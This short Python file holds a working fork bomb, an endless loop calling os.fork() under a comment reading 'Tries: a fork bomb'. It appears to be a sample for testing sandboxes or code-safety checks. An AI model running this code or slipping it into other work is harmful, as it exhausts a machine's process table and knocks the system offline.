# Tries: a fork bomb with os.fork.
# ruff: noqa
import os

while True:
    os.fork()
